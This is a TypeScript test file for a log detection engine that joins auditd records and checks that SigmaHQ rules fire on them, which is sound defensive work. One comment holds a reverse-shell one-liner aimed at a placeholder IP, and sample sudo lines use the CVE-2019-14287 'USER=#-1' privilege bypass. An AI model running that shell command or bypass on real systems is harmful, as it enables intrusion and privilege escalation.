import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { DetectionEngine } from '../../src/detection/engine.js';
import { planAuditJoin } from '../../src/detection/extract/auditd-join.js';
import { loadRules } from '../../src/detection/sigma/loader.js';
import { datasets, ruleFrom } from './helpers.js';

const hex = (s: string) => Buffer.from(s).toString('hex').toUpperCase();

/** One execve as auditd writes it (raw log_format), records in kernel order. */
function execEvent(serial: number, o: { exe: string; comm: string; args: string[]; cwd: string; pid?: number }): string[] {
  const msg = `msg=audit(1700000000.123:${serial}):`;
  const pid = o.pid ?? 2291;
  return [
    `type=SYSCALL ${msg} arch=c000003e syscall=59 success=yes exit=0 a0=55d3c6a0e2a0 a1=55d3c6a0e5c0 a2=55d3c6a0e3f0 a3=8 items=2 ppid=2210 pid=${pid} auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="${o.comm}" exe="${o.exe}" subj=unconfined key="exec"`,
    `type=EXECVE ${msg} argc=${o.args.length} ${o.args.map((a, i) => `a${i}=${/[\s"]/.test(a) ? hex(a) : `"${a}"`}`).join(' ')}`,
    `type=CWD ${msg} cwd=${/\s/.test(o.cwd) ? hex(o.cwd) : `"${o.cwd}"`}`,
    `type=PATH ${msg} item=0 name="${o.exe}" inode=1835043 dev=fd:00 mode=0104755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0`,
    `type=PATH ${msg} item=1 name="/lib64/ld-linux-x86-64.so.2" inode=1839946 dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0`,
    `type=PROCTITLE ${msg} proctitle=${hex(o.args.join('\0'))}`,
    `type=EOE ${msg}`,
  ];
}

const AT = execEvent(4242, { exe: '/usr/bin/at', comm: 'at', args: ['at', '-f', '/tmp/job.sh', 'now + 1 minute'], cwd: '/home/alice' });
const CRONTAB = execEvent(4243, { exe: '/usr/bin/crontab', comm: 'crontab', args: ['crontab', '-r'], cwd: '/root' });

describe('auditd records of one event are joined before matching', () => {
  it('an `at -f` execve: Image (SYSCALL), CommandLine (EXECVE) and CurrentDirectory (CWD) are seen together', () => {
    const rule = ruleFrom(
      `selection:\n    Image|endswith: '/at'\n    CommandLine|contains: ' -f '\n    CurrentDirectory: '/home/alice'\ncondition: selection`,
      'product: linux\n    category: process_creation',
    );
    const e = new DetectionEngine({ rules: [rule] });
    const res = e.scanText(AT.join('\n') + '\n', true);
    // One signal, on the EXECVE line (line 1): the process event.
    expect([...res.hits]).toEqual([1, 0]);
    expect(res.fields![1]).toMatchObject({
      'process.executable': '/usr/bin/at',
      'process.command_line': 'at -f /tmp/job.sh now + 1 minute',
      'process.working_directory': '/home/alice',
      'process.pid': 2291,
      'process.parent.pid': 2210,
      'process.title': 'at -f /tmp/job.sh now + 1 minute',
      'event.category': 'process',
    });
  });

  it('the SigmaHQ process_creation rule "Crontab Removal" (Image from SYSCALL + CommandLine from EXECVE) fires on a real pair', async () => {
    const file = path.join(datasets, 'sigmahq/rules/linux/process_creation/proc_creation_lnx_crontab_removal.yml');
    const { rules, refusals } = await loadRules([file], { builtin: false });
    expect(refusals).toEqual([]);
    const e = new DetectionEngine({ rules });
    // Only the SYSCALL + EXECVE pair, as the issue reported it.
    expect([...e.scanText(CRONTAB.slice(0, 2).join('\n')).hits]).toEqual([1, 0]);
    // Pipeline events (the log-file source keeps each record as one event) go through the same join.
    const batch = CRONTAB.map((l) => ({ message: l, 'event.original': l }));
    const r = e.evaluateBatch(batch);
    expect(r.matches.map((m) => (m === 0 ? 0 : m.length))).toEqual([0, 1, 0, 0, 0, 0, 0]);
    expect(r.extracted[1]).toMatchObject({ 'process.executable': '/usr/bin/crontab', 'process.command_line': 'crontab -r' });
    // Each record alone (another batch, another worker) — what happened before the join: no match.
    expect(CRONTAB.map((l) => e.evaluate({ message: l, 'event.original': l }))).toEqual(CRONTAB.map(() => undefined));
  });

  it('records of other serials or other nodes are never joined, even interleaved', () => {
    const a = execEvent(10, { exe: '/usr/bin/at', comm: 'at', args: ['at', '-f', 'x'], cwd: '/a' });
    const b = execEvent(11, { exe: '/usr/bin/id', comm: 'id', args: ['id'], cwd: '/b' });
    const onNode = (n: string, l: string) => `node=${n} ${l}`;
    // a's SYSCALL, b's SYSCALL, then a's EXECVE, b's EXECVE …; plus b's records repeated from another node.
    const lines = [a[0]!, b[0]!, a[1]!, b[1]!, a[2]!, b[2]!, onNode('web2', b[1]!)];
    const plan = planAuditJoin(lines);
    expect(Object.fromEntries(plan.get(2)!)).toMatchObject({ 'process.executable': '/usr/bin/at', 'process.working_directory': '/a' });
    expect(Object.fromEntries(plan.get(3)!)).toMatchObject({ 'process.executable': '/usr/bin/id', 'process.working_directory': '/b' });
    expect(plan.has(6)).toBe(false);
  });

  it('bounded: at most 64 events are open at once; an older one is closed when more serials arrive', () => {
    const first = execEvent(1, { exe: '/usr/bin/at', comm: 'at', args: ['at'], cwd: '/' });
    const lines = [first[0]!];
    for (let s = 2; s <= 70; s++) lines.push(execEvent(s, { exe: '/usr/bin/true', comm: 'true', args: ['true'], cwd: '/' })[0]!);
    lines.push(first[1]!, execEvent(70, { exe: '/usr/bin/true', comm: 'true', args: ['true'], cwd: '/' })[1]!);
    const plan = planAuditJoin(lines);
    // Serial 1 was closed (with nothing to join) long before its EXECVE came; serial 70 is still open.
    expect(plan.has(70)).toBe(false);
    expect(Object.fromEntries(plan.get(71)!)).toMatchObject({ 'process.executable': '/usr/bin/true' });
  });

  it('a hex-encoded working directory and a forwarded (audispd via syslog) event', () => {
    const ev = execEvent(77, { exe: '/usr/bin/at', comm: 'at', args: ['at', '-f', '/tmp/job.sh'], cwd: '/home/alice/my jobs' });
    const fwd = ev.map((l) => `Nov 27 10:00:00 web1 audispd: node=web1 ${l}`);
    const rule = ruleFrom(
      `selection:\n    Image: '/usr/bin/at'\n    CurrentDirectory: '/home/alice/my jobs'\ncondition: selection`,
      'product: linux\n    category: process_creation',
    );
    const e = new DetectionEngine({ rules: [rule] });
    expect([...e.scanText(fwd.join('\n')).hits]).toEqual([1, 0]);
  });
});

describe('auditd socket calls become network events', () => {
  // bash -i >& /dev/tcp/203.0.113.9/4545 0>&1: connect(2) from /usr/bin/bash, peer in SOCKADDR.
  const msg = 'msg=audit(1700000001.456:5001):';
  const connect = [
    `type=SYSCALL ${msg} arch=c000003e syscall=42 success=yes exit=0 a0=3 a1=55a1c7e0b2c0 a2=10 a3=0 items=0 ppid=2210 pid=3001 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="bash" exe="/usr/bin/bash" key="network"`,
    `type=SOCKADDR ${msg} saddr=020011C1CB0071090000000000000000`,
    `type=PROCTITLE ${msg} proctitle=${hex('bash -i')}`,
    `type=EOE ${msg}`,
  ];

  it('the SigmaHQ rule "Linux Reverse Shell Indicator" (Image + DestinationIp) fires on a real connect()', async () => {
    const file = path.join(datasets, 'sigmahq/rules/linux/network_connection/net_connection_lnx_back_connect_shell_dev.yml');
    const { rules, refusals } = await loadRules([file], { builtin: false });
    expect(refusals).toEqual([]);
    const e = new DetectionEngine({ rules });
    const res = e.scanText(connect.join('\n'), true);
    expect([...res.hits]).toEqual([1, 0]);
    expect(res.fields![1]).toMatchObject({ 'destination.ip': '203.0.113.9', 'destination.port': 4545, 'process.executable': '/usr/bin/bash', 'process.pid': 3001 });
    // The same call to localhost is filtered out by the rule.
    const local = connect.map((l) => l.replace('CB007109', '7F000001'));
    expect(e.scanText(local.join('\n')).hits.length).toBe(0);
  });

  it('IPv6 peers, bind() as the local end, and calls on other architectures left alone', () => {
    const v6 = `type=SOCKADDR ${msg} saddr=0A0001BB0000000020010DB800000000000000000000000100000000`;
    expect(Object.fromEntries(planAuditJoin([connect[0], v6]).get(1)!)).toMatchObject({ 'destination.ip': '2001:db8::1', 'destination.port': 443 });
    const bind = connect[0]!.replace('syscall=42', 'syscall=49');
    expect(Object.fromEntries(planAuditJoin([bind, connect[1]]).get(1)!)).toMatchObject({ 'source.ip': '203.0.113.9', 'source.port': 4545 });
    // aarch64 numbers its calls differently: without a name (ENRICHED SYSCALL=) the side is unknown.
    expect(planAuditJoin([connect[0]!.replace('arch=c000003e', 'arch=c00000b7'), connect[1]]).has(1)).toBe(false);
    expect(
      Object.fromEntries(planAuditJoin([connect[0]!.replace('arch=c000003e', 'arch=c00000b7') + ' \u001dARCH=aarch64 SYSCALL=connect UID="alice"', connect[1]]).get(1)!),
    ).toMatchObject({
      'destination.ip': '203.0.113.9',
      'user.name': 'alice',
    });
  });
});

describe('sudo lines carry the field SigmaHQ sudo rules read (USER, mapped to user.target.name)', () => {
  it('the SigmaHQ CVE-2019-14287 rule reads USER: "#-1" fires, a real user does not', async () => {
    const file = path.join(datasets, 'sigmahq/rules-emerging-threats/2019/Exploits/CVE-2019-14287/lnx_sudo_exploit_cve_2019_14287.yml');
    const { rules, refusals } = await loadRules([file], { builtin: false });
    expect(refusals).toEqual([]);
    const e = new DetectionEngine({ rules });
    const hits = (l: string) => e.scanText(l).hits.length / 2;
    expect(hits('Oct 15 10:00:00 srv sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=#-1 ; COMMAND=/usr/bin/id')).toBe(1);
    expect(hits('Oct 15 10:00:00 srv sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=#4294967295 ; COMMAND=/usr/bin/id')).toBe(1);
    expect(hits('Oct 15 10:00:00 srv sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id')).toBe(0);
  });
});
